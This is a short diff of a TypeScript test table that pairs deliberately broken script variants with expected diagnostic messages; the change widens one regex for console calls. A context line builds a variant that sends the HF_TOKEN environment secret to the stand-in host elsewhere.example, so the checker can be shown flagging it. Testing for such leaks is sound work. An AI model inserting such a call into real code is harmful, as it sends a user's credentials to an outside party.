@@ -40,7 +40,7 @@ const broken: readonly (readonly [string, string, RegExp])[] = [
         `${good.content}await fetch("https://elsewhere.example/", { headers: { authorization: process.env.HF_TOKEN } });`,
         /elsewhere\.example\/ carries the token of HF_TOKEN/m,
     ],
-    ["prints nothing", changed(/console\.log\(.*\);/, ""), /^output: printed ""$/m],
+    ["prints nothing", changed(/console\.\w+\(.*\);/, ""), /^output: printed ""$/m],
     [
         "does not wait",
         changed("await response.json()", "response.json()"),
